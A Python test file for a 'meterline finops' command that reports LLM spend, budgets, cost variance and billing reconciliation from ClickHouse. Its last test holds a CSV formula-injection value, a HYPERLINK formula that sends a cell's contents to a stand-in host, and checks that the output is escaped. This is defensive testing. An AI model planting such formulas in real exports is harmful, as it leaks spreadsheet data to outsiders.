"""`meterline finops`: from ClickHouse itself, or from the running daemon that holds chDB."""

import csv
import io
import json
import subprocess
import sys
import time

from meterline import cli
from meterline.extensions.finops.cli import render
from tests.helpers import config_text, eventually, free_port, make_event, post_json

PIPELINE = """
receivers:
  webhook: {{listen: 127.0.0.1:{port}}}
exporters:
  clickhouse:
    endpoint: chdb://{{data}}/clickhouse
    batch: {{timeout: 20ms}}
service:
  data_dir: {{data}}
  admin: {admin}
  pipelines:
    p: {{receivers: [webhook], exporters: [clickhouse]}}
extensions:
  finops:
    budgets:
      search: {{scope: {{team: search}}, period: day, limit_usd: 10}}
"""


def events():
    """Twelve events of the last minutes: search spends 0.5 each, support 0.25."""
    now = time.time_ns()
    return [make_event(i, timestamp=now - i * 10**9, team="search" if i % 3 else "support",
                       cost_usd=0.5 if i % 3 else 0.25) for i in range(12)]


def finops(config, *args):
    return subprocess.run([sys.executable, "-m", "meterline", "finops", "-c", str(config),
                           *args], capture_output=True, text=True, timeout=60)


async def test_finops_asks_the_running_daemon_which_holds_the_data(daemon_factory):
    port = free_port()
    daemon = daemon_factory(PIPELINE.format(port=port, admin='{listen: "127.0.0.1:{admin}"}'))
    daemon.start()
    await post_json(f"http://127.0.0.1:{port}/v1/events", events())

    def spend():
        result = finops(daemon.config, "--by", "team", "--format", "json", "--range", "24h")
        assert result.returncode == 0, result.stderr
        return json.loads(result.stdout)

    answer = await eventually(lambda: (a := spend())["total"]["requests"] == 12 and a)
    assert {r["team"]: r["cost_usd"] for r in answer["rows"]} == {"search": 4, "support": 1}

    result = finops(daemon.config, "budgets", "--format", "csv")
    assert result.returncode == 0, result.stderr
    [row] = csv.DictReader(io.StringIO(result.stdout))
    assert (row["budget"], row["spend_usd"], row["utilization"]) == ("search", "4", "0.4")
    assert daemon.stop() == 0


async def test_finops_reads_clickhouse_itself_when_no_daemon_runs(daemon_factory):
    port = free_port()
    daemon = daemon_factory(PIPELINE.format(port=port, admin='{listen: "127.0.0.1:{admin}"}'))
    daemon.start()
    await post_json(f"http://127.0.0.1:{port}/v1/events", events())
    await eventually(lambda: _stored(daemon) == 12)
    assert daemon.stop() == 0
    result = finops(daemon.config, "--by", "team")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("spend by team, ")
    assert lines[1].split() == ["team", "requests", "errors", "total_tokens", "cost_usd",
                                "cost_per_request_usd", "cost_per_1k_tokens_usd", "share"]
    assert lines[2].split()[:2] == ["search", "8"] and lines[2].split()[4] == "4"
    assert lines[-1].split()[:2] == ["TOTAL", "12"]


def _stored(daemon):
    result = finops(daemon.config, "--format", "json", "--range", "24h")
    return json.loads(result.stdout)["total"]["requests"] if result.returncode == 0 else None


def test_finops_explains_a_data_directory_held_by_a_daemon_without_admin(daemon_factory,
                                                                         tmp_path):
    daemon = daemon_factory(PIPELINE.format(port=free_port(), admin="null"))
    daemon.proc = subprocess.Popen([sys.executable, "-m", "meterline", "run", "-c",
                                    str(daemon.config)], cwd=tmp_path)
    data = tmp_path / "data" / "clickhouse"
    deadline = time.monotonic() + 15
    while not (data / "status").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    result = finops(daemon.config)
    assert result.returncode == 1
    assert "a daemon is using it" in result.stderr


def test_finops_without_a_finops_extension_says_so(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text(config_text("""
        receivers: {webhook: {}}
        exporters: {clickhouse: {}}
        service: {pipelines: {p: {receivers: [webhook], exporters: [clickhouse]}}}
        """, tmp_path))
    result = finops(path)
    assert result.returncode == 1
    assert "has no finops extension" in result.stderr
    assert "extensions: {finops: {clickhouse: <its id>}}" in result.stderr


def test_finops_on_a_database_without_the_tables_says_nothing_is_stored_yet(tmp_path):
    path = tmp_path / "p.yaml"
    path.write_text(config_text("""
        receivers: {webhook: {}}
        exporters: {clickhouse: {endpoint: "chdb://{data}/clickhouse"}}
        extensions: {finops: {}}
        service:
          data_dir: "{data}"
          pipelines: {p: {receivers: [webhook], exporters: [clickhouse]}}
        """, tmp_path))
    (tmp_path / "data" / "clickhouse").mkdir(parents=True)  # but no table was ever made
    result = finops(path)
    assert result.returncode == 1
    assert result.stderr.endswith("has no llm_events table: has the daemon stored anything "
                                  "yet?\n"), result.stderr


def test_the_reconcile_table_lists_the_estimate_of_the_providers_no_bill_covers():
    figures = {"estimated_cost_usd": 6.0, "billed_cost_usd": 7.0, "variance_usd": 1.0,
               "variance_ratio": 0.1667, "unexplained_usd": 0.0, "billing_lines": 3}
    answer = {"report": "reconcile", "by": "provider", "since": "S", "until": "U",
              "rows": [{"provider": "openai", **figures}], "total": figures,
              "not_billed": [{"provider": "anthropic", "estimated_cost_usd": 4.54},
                             {"provider": None, "estimated_cost_usd": 0.25}]}
    assert render(answer, "reconcile", "table").splitlines()[-1] == (
        "not billed (no bill in the window), estimated_cost_usd: anthropic 4.54, - 0.25")


def test_the_table_shows_a_total_and_right_aligned_figures():
    answer = {"report": "spend", "by": "model", "since": "S", "until": "U",
              "rows": [{"model": "gpt-4o", "requests": 10, "errors": 1, "total_tokens": 900,
                        "cost_usd": 2.5, "cost_per_request_usd": 0.25,
                        "cost_per_1k_tokens_usd": 2.777778, "share": 1}],
              "total": {"requests": 10, "errors": 1, "total_tokens": 900, "cost_usd": 2.5,
                        "cost_per_request_usd": 0.25, "cost_per_1k_tokens_usd": 2.777778}}
    assert render(answer, "spend", "table").splitlines() == [
        "spend by model, S to U",
        "model   requests  errors  total_tokens  cost_usd  cost_per_request_usd"
        "  cost_per_1k_tokens_usd  share",
        "gpt-4o        10       1           900       2.5                  0.25"
        "                2.777778      1",
        "TOTAL         10       1           900       2.5                  0.25"
        "                2.777778      -",
    ]


def test_the_spend_table_shows_cache_hits_and_savings_when_there_are_cache_hits():
    row = {"requests": 10, "errors": 0, "total_tokens": 900, "cost_usd": 2.5,
           "cost_per_request_usd": 0.25, "cost_per_1k_tokens_usd": 2.777778,
           "cache_hits": 4, "saved_cost_usd": 0.75}
    answer = {"report": "spend", "by": "model", "since": "S", "until": "U",
              "rows": [{"model": "gpt-4o", **row, "share": 1}], "total": row}
    header, first, total = render(answer, "spend", "table").splitlines()[1:]
    assert header.split()[-3:] == ["share", "cache_hits", "saved_cost_usd"]
    assert first.split()[-2:] == ["4", "0.75"] and total.split()[-2:] == ["4", "0.75"]


def test_the_spend_table_shows_unpriced_requests_when_a_model_has_no_price():
    priced = {"requests": 10, "errors": 0, "total_tokens": 900, "cost_usd": 2.5,
              "cost_per_request_usd": 0.25, "cost_per_1k_tokens_usd": 2.777778,
              "unpriced_requests": 0}
    unpriced = {**priced, "cost_usd": 0, "unpriced_requests": 3}
    answer = {"report": "spend", "by": "model", "since": "S", "until": "U",
              "rows": [{"model": "gpt-4o", **priced}, {"model": "in-house", **unpriced}],
              "total": {**priced, "unpriced_requests": 3}}
    header, first, second, total = render(answer, "spend", "table").splitlines()[1:]
    assert header.split()[-1] == "unpriced_requests"
    assert [first.split()[-1], second.split()[-1], total.split()[-1]] == ["0", "3", "3"]


def test_the_spend_table_leaves_unpriced_requests_out_when_every_call_is_priced():
    row = {"requests": 10, "errors": 0, "total_tokens": 900, "cost_usd": 2.5,
           "cost_per_request_usd": 0.25, "cost_per_1k_tokens_usd": 2.777778,
           "unpriced_requests": 0}
    answer = {"report": "spend", "by": "model", "since": "S", "until": "U",
              "rows": [{"model": "gpt-4o", **row, "share": 1}], "total": row}
    assert "unpriced" not in render(answer, "spend", "table")


def test_the_variance_table_shows_a_model_without_estimate_as_not_estimated():
    row = {"model": "claude-haiku", "requests_with_actual": 3, "requests_without_estimate": 3,
           "estimated_cost_usd": None, "actual_cost_usd": None, "variance_usd": None,
           "variance_ratio": None, "actual_cost_without_estimate_usd": 0}
    answer = {"report": "variance", "by": "model", "since": "S", "until": "U", "rows": [row]}
    assert render(answer, "variance", "table").splitlines()[1:] == [
        "model         requests_with_actual  requests_without_estimate  estimated_cost_usd"
        "  actual_cost_usd  variance_usd  variance_ratio",
        "claude-haiku                     3                          3                   -"
        "                -             -               -"]


def finops_here(capsys, config, *args):
    """`meterline finops` run in this process (where many runs cost too long to start a
    process each): its exit code, and what it printed to stdout and stderr."""
    code = cli.main(["finops", "-c", str(config), *args])
    printed = capsys.readouterr()
    return code, printed.out, printed.err


async def test_a_csv_without_rows_still_has_the_header_of_its_rows(daemon_factory, capsys):
    port = free_port()
    daemon = daemon_factory(PIPELINE.format(port=port, admin='{listen: "127.0.0.1:{admin}"}'))
    daemon.start()
    tool = make_event(99, timestamp=time.time_ns(), operation="execute_tool",
                      tool_name="search", duration_ms=10.0)
    await post_json(f"http://127.0.0.1:{port}/v1/events", [*events(), tool])

    def header(*args):
        code, out, err = finops_here(capsys, daemon.config, *args, "--format", "csv")
        assert code == 0, err
        return out.splitlines()[0] if out.strip() else ""

    def stored():
        code, out, _ = finops_here(capsys, daemon.config, "--by", "tool", "--format", "json",
                                   "--range", "24h")
        return code == 0 and json.loads(out)["rows"] != []

    await eventually(stored)  # the events and the tool call are in ClickHouse
    for report in (["spend"], ["spend", "--by", "agent"], ["spend", "--by", "session"],
                   ["spend", "--by", "tool"], ["growth"], ["variance"]):
        with_rows = header(*report, "--range", "24h")
        assert header(*report, "--since", "2020-01-01", "--until", "2020-01-02") == (
            with_rows), report
    assert render({"report": "reconcile", "by": "provider", "rows": [], "total": {
        "estimated_cost_usd": 0, "billed_cost_usd": 0}}, "reconcile", "csv") == (
            "provider,estimated_cost_usd,billed_cost_usd\n")
    assert render([], "budgets", "csv").splitlines()[0] == header("budgets")


def test_csv_writes_true_and_false_as_json_does():
    row = {"budget": "per-user-daily", "scope": {}, "per": "user", "member": "dave",
           "rolling": True, "threshold_reached": False}
    lines = render([row], "budgets", "csv").splitlines()
    assert lines[1].split(",")[-2:] == ["true", "false"]


def test_csv_writes_a_label_a_spreadsheet_would_run_as_a_formula_as_text():
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    answer = {"report": "spend", "by": "user", "since": "S", "until": "U",
              "rows": [{"user": evil, "requests": 1, "cost_usd": -0.5},
                       {"user": "@sum", "requests": 1, "cost_usd": 0.5}],
              "total": {"requests": 2, "cost_usd": 0}}
    [_, first, second] = list(csv.reader(io.StringIO(render(answer, "spend", "csv"))))
    assert first[:3] == [f"'{evil}", "1", "-0.5"]  # (a negative number stays a number)
    assert second[0] == "'@sum"
